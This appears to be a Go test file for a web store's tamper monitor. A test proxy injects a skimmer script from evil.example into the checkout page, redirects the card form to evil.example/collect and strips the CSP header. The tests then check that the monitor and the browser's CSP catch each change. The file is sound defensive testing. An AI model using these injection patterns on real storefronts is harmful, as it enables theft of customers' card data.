package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/json"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"kaede/internal/alert"
	"kaede/internal/audit"
	"kaede/internal/monitor"
	"kaede/internal/secevent"
	"kaede/internal/shop"
	"kaede/internal/switches"
)

// tamperProxy stands between the customers (and the monitor) and the
// store, as a CDN or a reverse proxy would: the store's base URL is its
// address. It changes responses with the function set last, and counts
// the CSP reports that pass through it.
type tamperProxy struct {
	srv   *httptest.Server
	ready chan struct{}

	mu      sync.Mutex
	target  *url.URL
	tamper  func(*http.Response) error
	reports int
}

// newTamperProxy listens at once, so that its address can be the store's
// base URL, and forwards once pointTo names the store.
func newTamperProxy(t *testing.T) *tamperProxy {
	t.Helper()
	p := &tamperProxy{ready: make(chan struct{})}
	rp := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			p.mu.Lock()
			r.SetURL(p.target)
			p.mu.Unlock()
			r.Out.Host = r.In.Host
		},
		ModifyResponse: func(res *http.Response) error {
			p.mu.Lock()
			f := p.tamper
			p.mu.Unlock()
			if f == nil {
				return nil
			}
			return f(res)
		},
	}
	p.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		<-p.ready
		if r.Method == http.MethodPost && r.URL.Path == "/csp-report" {
			p.mu.Lock()
			p.reports++
			p.mu.Unlock()
		}
		rp.ServeHTTP(w, r)
	}))
	p.srv.Start()
	t.Cleanup(p.srv.Close)
	return p
}

func (p *tamperProxy) pointTo(t *testing.T, store string) {
	t.Helper()
	u, err := url.Parse(store)
	if err != nil {
		t.Fatal(err)
	}
	p.mu.Lock()
	p.target = u
	p.mu.Unlock()
	close(p.ready)
}

func (p *tamperProxy) set(f func(*http.Response) error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	p.tamper = f
}

func (p *tamperProxy) cspReports() int {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.reports
}

// editBody changes the body of the responses match picks.
func editBody(match func(*http.Request) bool, edit func([]byte) []byte) func(*http.Response) error {
	return func(res *http.Response) error {
		if !match(res.Request) {
			return nil
		}
		b, err := io.ReadAll(res.Body)
		res.Body.Close()
		if err != nil {
			return err
		}
		b = edit(b)
		res.Body = io.NopCloser(bytes.NewReader(b))
		res.ContentLength = int64(len(b))
		res.Header.Set("Content-Length", strconv.Itoa(len(b)))
		return nil
	}
}

// offlineTransport refuses every host but the loopback ones at once, as
// a sandbox without DNS would, instead of waiting on a lookup of
// evil.example.
type offlineTransport struct{ rt http.RoundTripper }

func (o offlineTransport) RoundTrip(req *http.Request) (*http.Response, error) {
	if ip := net.ParseIP(req.URL.Hostname()); ip == nil || !ip.IsLoopback() {
		return nil, &net.DNSError{Err: "no such host", Name: req.URL.Hostname(), IsNotFound: true}
	}
	return o.rt.RoundTrip(req)
}

// startMonitored runs the demo store with card payments behind proxy,
// its base URL the proxy's, the monitor checking every second.
func startMonitored(t *testing.T, cfg Config, proxy *tamperProxy) *Main {
	t.Helper()
	return startMonitoredWith(t, cfg, proxy, monitorOptions{every: time.Second}, nil)
}

// startMonitoredWith is startMonitored with the monitor's options (its
// transport is always the one that refuses other hosts) and, when clock
// is set, the store's clock.
func startMonitoredWith(t *testing.T, cfg Config, proxy *tamperProxy, opts monitorOptions, clock *stepClock) *Main {
	t.Helper()
	cfg.Addr = "127.0.0.1:0"
	cfg.BaseURL = proxy.srv.URL
	cfg.Demo = true
	cfg.MailFrom = "shop@kaede.example"
	cfg.Secret = strings.Repeat("x", 32)
	cfg.Card = CardConfig{Provider: "gateway", RunGateway: true}
	cfg.finish()
	if err := cfg.Validate(); err != nil {
		t.Fatalf("config: %v", err)
	}
	// The store's warnings and errors are printed when the test fails:
	// a monitor that never ran says why only there.
	logs := &lockedBuffer{}
	m := NewMain(cfg, slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelWarn})))
	t.Cleanup(func() {
		if t.Failed() {
			dumpMonitorState(t, m, logs)
		}
	})
	tr := http.DefaultTransport.(*http.Transport).Clone()
	t.Cleanup(tr.CloseIdleConnections)
	opts.transport = offlineTransport{tr}
	m.monitorOptions = opts
	if clock != nil {
		m.Clock = clock.Now
	}
	if err := m.Run(t.Context()); err != nil {
		m.Close()
		t.Fatalf("run: %v", err)
	}
	t.Cleanup(func() { m.Close() })
	proxy.pointTo(t, m.URL())
	return m
}

// lockedBuffer is a log destination that goroutines share.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// dumpMonitorState prints what a failed monitor test needs to be read:
// the runs, the task jobs and their errors, and the store's log.
func dumpMonitorState(t *testing.T, m *Main, logs *lockedBuffer) {
	if m.db == nil {
		return
	}
	rows, err := m.db.Query(`SELECT id, result, started_at, finished_at FROM monitor_runs ORDER BY id DESC LIMIT 10`)
	if err == nil {
		for rows.Next() {
			var id int64
			var result string
			var started, finished any
			if rows.Scan(&id, &result, &started, &finished) == nil {
				t.Logf("monitor run %d: %s %v %v", id, result, started, finished)
			}
		}
		rows.Close()
	}
	rows, err = m.db.Query(`SELECT state, args, attempt, errors, created_at FROM river_job WHERE kind = 'task' ORDER BY id DESC LIMIT 40`)
	if err != nil {
		t.Logf("river jobs: %v", err)
	} else {
		for rows.Next() {
			var state, args string
			var attempt int
			var errs sql.NullString
			var created any
			if rows.Scan(&state, &args, &attempt, &errs, &created) == nil {
				t.Logf("task job %s %s attempt %d created %v errors %.300s", state, args, attempt, created, errs.String)
			}
		}
		rows.Close()
	}
	out := logs.String()
	if len(out) > 8000 {
		out = out[len(out)-8000:]
	}
	t.Logf("store log (warnings and errors):\n%s", out)
}

// lastRun is the newest run's id and result, or 0 before the first.
func lastRun(t *testing.T, d *sql.DB) (int64, string) {
	t.Helper()
	var id int64
	var result string
	err := d.QueryRow(`SELECT id, result FROM monitor_runs ORDER BY id DESC LIMIT 1`).Scan(&id, &result)
	if err != nil && err != sql.ErrNoRows {
		t.Fatalf("last run: %v", err)
	}
	return id, result
}

// TestMonitorCatchesTamperingInFront is the proof of issue 9: a proxy in
// front of the store changes, one at a time, what customers receive on
// the payment pages: a skimmer script, the card step's form action, the
// CSP header, one byte of a stylesheet. The store's own monitor, walking
// the pages through the public base URL, raises a critical tamper event
// for each, and the time from the change to the event is printed.
func TestMonitorCatchesTamperingInFront(t *testing.T) {
	eachDatabase(t, func(t *testing.T, cfg Config) {
		proxy := newTamperProxy(t)
		// The alert webhook's receiver: every critical event must reach
		// it, signed, as well as the staff's outbox.
		hook := newAlertReceiver(t)
		cfg.AlertWebhookURL, cfg.AlertWebhookSecret = hook.srv.URL, hook.secret
		m := startMonitored(t, cfg, proxy)
		events := secevent.NewStore(m.db, nil)
		ctx := context.Background()

		// The first run waits behind every task a starting store runs at
		// once (pruners, the audit chain's full verification…), which
		// under a loaded CI machine can take a while: the limit here is
		// for the start, not for noticing a change.
		started := time.Now()
		waitUntil(t, 120*time.Second, func() bool {
			var n int
			_ = m.db.QueryRow(`SELECT COUNT(*) FROM monitor_baselines WHERE state = 'approved' AND approved_by = 'system:monitor'`).Scan(&n)
			return n == 1
		})
		t.Logf("baseline taken %.1fs after the store started", time.Since(started).Seconds())
		if id, result := lastRun(t, m.db.DB); id == 0 || result != "ok" {
			t.Fatalf("first run %d: %s, want ok", id, result)
		}

		evil := `<script src="https://evil.example/s.js"></script>`
		cases := []struct {
			name   string
			tamper func(*http.Response) error
			want   string // in the event's detail
		}{
			{"(a) skimmer script on the checkout page", editBody(
				func(r *http.Request) bool { return r.Method == http.MethodGet && r.URL.Path == "/checkout" },
				func(b []byte) []byte { return bytes.Replace(b, []byte("</head>"), []byte(evil+"</head>"), 1) }),
				"https://evil.example/s.js"},
			{"(b) card step's form action to another origin", editBody(
				func(r *http.Request) bool { return r.Method == http.MethodPost && r.URL.Path == "/checkout/confirm" },
				func(b []byte) []byte {
					return bytes.Replace(b, []byte(`action="/checkout/place"`), []byte(`action="https://evil.example/collect"`), 1)
				}),
				"card step sends customers to an origin that is not the provider's"},
			{"(c) CSP header dropped", func(res *http.Response) error {
				if res.Request.URL.Path == "/checkout" {
					res.Header.Del("Content-Security-Policy")
				}
				return nil
			}, "Content-Security-Policy"},
			{"(d) one byte of a stylesheet", editBody(
				func(r *http.Request) bool { return strings.HasSuffix(r.URL.Path, ".css") },
				func(b []byte) []byte {
					b[len(b)/2] ^= 1
					return b
				}),
				"hash-changed"},
		}
		seen := map[int64]bool{}
		for _, tc := range cases {
			changed := time.Now()
			proxy.set(tc.tamper)
			var got secevent.Event
			waitUntil(t, 60*time.Second, func() bool {
				list, err := events.List(ctx, secevent.Filter{Kind: secevent.KindTamper, Severity: secevent.Critical})
				if err != nil {
					t.Fatalf("list events: %v", err)
				}
				for _, e := range list {
					if !seen[e.ID] {
						got = e
						return true
					}
				}
				return false
			})
			took := time.Since(changed)
			seen[got.ID] = true
			t.Logf("%s: critical tamper event %d %.1fs after the change: %s", tc.name, got.ID, took.Seconds(), got.Summary)
			if !strings.Contains(got.Detail, tc.want) {
				t.Errorf("%s: event detail %s, want %q in it", tc.name, got.Detail, tc.want)
			}
			waitUntil(t, 60*time.Second, func() bool { return hook.has(got.ID) })
			t.Logf("%s: signed alert at the webhook %.1fs after the change", tc.name, time.Since(changed).Seconds())

			// The browser's refusal does not depend on the database: once.
			if strings.HasPrefix(tc.name, "(a)") && t.Name() == "TestMonitorCatchesTamperingInFront/sqlite" {
				skimmerRefused(t, proxy, events, changed)
			}

			// Undone, the pages are the baseline's again.
			proxy.set(nil)
			undone, _ := lastRun(t, m.db.DB)
			waitUntil(t, 60*time.Second, func() bool {
				id, result := lastRun(t, m.db.DB)
				return id > undone+1 && result == "ok"
			})
		}
	})
}

// skimmerRefused opens the tampered checkout page in Chromium through the
// proxy: the page carries the skimmer, the CSP refuses to run it, and the
// browser's violation report reaches the store as a security event naming
// the page, the directive and the blocked script. The time from the change
// (changed) to that event is printed.
func skimmerRefused(t *testing.T, proxy *tamperProxy, events *secevent.Store, changed time.Time) {
	t.Helper()
	chromiumPath(t)
	before := proxy.cspReports()
	// Over plain http the store's policy reports to report-uri, which
	// Chromium sends at once (over https it adds report-to, which Chromium
	// sends in batches about a minute apart).
	b := newBrowser(t, 90*time.Second)
	b.watchCSP(t)
	base := proxy.srv.URL
	p := buyableProduct(t, base)
	b.navigate(t, "open the product page", chromedp.Navigate(base+"/products/"+p.Slug))
	b.navigate(t, "add to cart", chromedp.Click(chromedp.CSS(`form.add:has(input[name="sku"][value="`+p.SKU+`"]) button[type="submit"]`)))
	res := b.navigate(t, "open the tampered checkout", chromedp.Navigate(base+"/checkout"))
	if res.Status != http.StatusOK {
		t.Fatalf("/checkout: status %d", res.Status)
	}
	if !eval[bool](t, b, `document.documentElement.outerHTML.includes('https://evil.example/s.js')`) {
		t.Fatal("/checkout: the proxy did not inject the skimmer")
	}
	waitUntil(t, 10*time.Second, func() bool {
		return strings.Contains(strings.Join(cspViolations(t, b), "\n"), "https://evil.example/s.js")
	})
	t.Logf("(a) Chromium refused the skimmer (CSP)")
	var got secevent.Event
	waitUntil(t, 60*time.Second, func() bool {
		list, err := events.List(context.Background(), secevent.Filter{Kind: secevent.KindCSPViolation})
		if err != nil {
			t.Fatalf("list events: %v", err)
		}
		for _, e := range list {
			if strings.Contains(e.Detail, "https://evil.example/s.js") {
				got = e
				return true
			}
		}
		return false
	})
	var detail struct{ Page, Directive, Blocked string }
	if err := json.Unmarshal([]byte(got.Detail), &detail); err != nil {
		t.Fatalf("event detail %s: %v", got.Detail, err)
	}
	if detail.Page != "/checkout" || !strings.HasPrefix(detail.Directive, "script-src") || detail.Blocked != "https://evil.example/s.js" || got.Severity != secevent.Critical {
		t.Errorf("CSP event %s %s, want a critical one for /checkout, script-src…, https://evil.example/s.js", got.Severity, got.Detail)
	}
	t.Logf("(a) CSP violation report as %s security event %d %.1fs after the change (%d reports through the proxy): %s",
		got.Severity, got.ID, time.Since(changed).Seconds(), proxy.cspReports()-before, got.Summary)
}

// TestMonitorCheckCommand runs "kaede monitor check" against a running
// store: unchanged pages pass and the run is recorded; a page changed in
// front of the store makes it print the difference and fail.
func TestMonitorCheckCommand(t *testing.T) {
	proxy := newTamperProxy(t)
	m := startMonitored(t, Config{DataDir: t.TempDir()}, proxy)
	args := []string{"check", "--database", m.Config.DatabaseURL, "--base-url", proxy.srv.URL, "--gateway-url", m.Config.Card.GatewayURL, "--monitor-mode", "http"}
	var out, errOut bytes.Buffer
	if err := runMonitor(t.Context(), args, &out, &errOut); err != nil {
		t.Fatalf("check of an unchanged store: %v\n%s%s", err, out.String(), errOut.String())
	}
	if !strings.Contains(out.String(), ": ok (0 differences)") {
		t.Errorf("output %q, want an ok run", out.String())
	}
	proxy.set(func(res *http.Response) error {
		if res.Request.URL.Path == "/checkout" {
			res.Header.Del("Content-Security-Policy")
		}
		return nil
	})
	out.Reset()
	if err := runMonitor(t.Context(), args, &out, &errOut); err != errDifferent {
		t.Fatalf("check of a changed store: %v, want errDifferent", err)
	}
	if !strings.Contains(out.String(), "header-removed /checkout Content-Security-Policy") {
		t.Errorf("output %q, want the CSP's removal", out.String())
	}
	// The security page's monitor control: red after a run that differs,
	// and red when the newest run is older than three intervals.
	mon, err := buildMonitor(proxy.srv.URL, nil, secevent.NewStore(m.db, nil), m.db, monitorOptions{}, shop.SystemClock, switches.NewService(m.db, shop.SystemClock, 0))
	if err != nil {
		t.Fatal(err)
	}
	st, err := monitorStatus(mon, time.Minute, shop.SystemClock)(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if !st.Configured || st.OK || st.LastRun.IsZero() || !strings.Contains(st.Evidence, "different") {
		t.Errorf("status after a differing run = %+v, want configured, red, the run's result as evidence", st)
	}
	proxy.set(nil)
	out.Reset()
	if err := runMonitor(t.Context(), args, &out, &errOut); err != nil {
		t.Fatalf("check after the change was undone: %v\n%s", err, out.String())
	}
	if st, err = monitorStatus(mon, time.Minute, shop.SystemClock)(t.Context()); err != nil || !st.OK {
		t.Errorf("status after a clean run = %+v, %v, want green", st, err)
	}
	later := func() time.Time { return time.Now().Add(time.Hour) }
	if st, err = monitorStatus(mon, time.Minute, later)(t.Context()); err != nil || st.OK || !strings.Contains(st.Evidence, "not running") {
		t.Errorf("status an hour after the last run = %+v, %v, want red: the monitor is not running", st, err)
	}
	// A change under the same release is tampering, not a candidate: there
	// is nothing to approve, and approving says so.
	err = runMonitor(t.Context(), []string{"approve", "--database", m.Config.DatabaseURL, "--reason", "release 2"}, &out, &errOut)
	if err == nil || !strings.Contains(err.Error(), "no baseline awaits approval") {
		t.Fatalf("approve with nothing pending: %v, want 'no baseline awaits approval'", err)
	}
}

func TestMonitorIntervalValidated(t *testing.T) {
	c := MonitorConfig{Interval: 5 * time.Second}
	if err := c.validate(); err == nil || !strings.Contains(err.Error(), "KAEDE_MONITOR_INTERVAL / --monitor-interval") {
		t.Fatalf("5s interval: %v, want an error naming the setting", err)
	}
	c.Interval = 10 * time.Second
	if err := c.validate(); err != nil {
		t.Fatalf("10s interval: %v", err)
	}
}

// alertReceiver is a webhook endpoint that keeps the ids of the security
// events whose alerts arrived with a valid signature.
type alertReceiver struct {
	srv    *httptest.Server
	secret string
	mu     sync.Mutex
	ids    map[int64]bool
}

func newAlertReceiver(t *testing.T) *alertReceiver {
	t.Helper()
	a := &alertReceiver{secret: strings.Repeat("s", 40), ids: map[int64]bool{}}
	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			http.Error(w, "read", http.StatusBadRequest)
			return
		}
		if err := alert.Verify(a.secret, r.Header.Get("X-Kaede-Signature"), body, time.Now(), 5*time.Minute); err != nil {
			http.Error(w, "signature", http.StatusUnauthorized)
			return
		}
		var p alert.Payload
		if err := json.Unmarshal(body, &p); err != nil {
			http.Error(w, "json", http.StatusBadRequest)
			return
		}
		a.mu.Lock()
		if p.Event.Severity == "critical" {
			a.ids[p.Event.ID] = true
		}
		a.mu.Unlock()
		w.WriteHeader(http.StatusNoContent)
	}))
	t.Cleanup(a.srv.Close)
	return a
}

func (a *alertReceiver) has(id int64) bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.ids[id]
}

// TestMonitorFollowsTheSwitches is staff stopping card payments during an
// incident on the served store: checkout no longer offers the card, and
// the store's own monitor, told the switches' positions, takes a baseline
// of the pages as served with card payments stopped and says so with a
// warning, never a critical "changed outside a release". With card
// payments back, runs compare with the original baseline again.
func TestMonitorFollowsTheSwitches(t *testing.T) {
	eachDatabase(t, func(t *testing.T, cfg Config) {
		proxy := newTamperProxy(t)
		m := startMonitored(t, cfg, proxy)
		events := secevent.NewStore(m.db, nil)
		ctx := context.Background()
		var first int64
		waitUntil(t, 120*time.Second, func() bool {
			_ = m.db.QueryRow(`SELECT id FROM monitor_baselines WHERE state = 'approved' AND conditions = ''`).Scan(&first)
			return first != 0
		})
		critical := func() []secevent.Event {
			list, err := events.List(ctx, secevent.Filter{Severity: secevent.Critical})
			if err != nil {
				t.Fatal(err)
			}
			return list
		}
		// A run after id with the conditions and result wanted.
		waitRun := func(after int64, conditions string) (id, baseline int64) {
			waitUntil(t, 60*time.Second, func() bool {
				var b sql.NullInt64
				err := m.db.QueryRow(`SELECT id, baseline_id FROM monitor_runs WHERE id > $1 AND conditions = $2 AND result = 'ok' ORDER BY id LIMIT 1`,
					after, conditions).Scan(&id, &b)
				baseline = b.Int64
				return err == nil
			})
			return id, baseline
		}
		start, _ := lastRun(t, m.db.DB)

		sw := switches.NewService(m.db, shop.SystemClock, 0)
		set := func(on bool) {
			if _, err := sw.Set(ctx, switches.Change{Name: switches.Card, On: on, Reason: "a card company reported a leak"},
				audit.Actor{Name: audit.ActorCLI}); err != nil {
				t.Fatalf("card switch: %v", err)
			}
		}
		set(false)
		off, offBase := waitRun(start, "card=off")
		if offBase == first || offBase == 0 {
			t.Fatalf("run %d with card payments stopped compared with baseline %d, want one of its own", off, offBase)
		}
		var enc string
		if err := m.db.QueryRow(`SELECT snapshot FROM monitor_baselines WHERE id = $1`, offBase).Scan(&enc); err != nil {
			t.Fatal(err)
		}
		snap, err := monitor.Decode([]byte(enc))
		if err != nil || snap.Conditions != "card=off" || snap.PaymentMethod == "card" {
			t.Fatalf("card-off baseline taken under %q paying by %q, %v; want card=off without the card", snap.Conditions, snap.PaymentMethod, err)
		}
		if c := critical(); len(c) != 0 {
			t.Fatalf("critical events with card payments stopped: %+v", c)
		}
		warned, err := events.List(ctx, secevent.Filter{Kind: secevent.KindTamper, Severity: secevent.Warning})
		if err != nil || len(warned) != 1 || !strings.Contains(warned[0].Summary, "card payments stopped") {
			t.Fatalf("warnings %+v, %v; want one saying card payments stopped", warned, err)
		}

		set(true)
		on, onBase := waitRun(off, "")
		if onBase != first {
			t.Fatalf("run %d with card payments back compared with baseline %d, want the first (%d)", on, onBase, first)
		}
		if c := critical(); len(c) != 0 {
			t.Fatalf("critical events after card payments resumed: %+v", c)
		}
	})
}
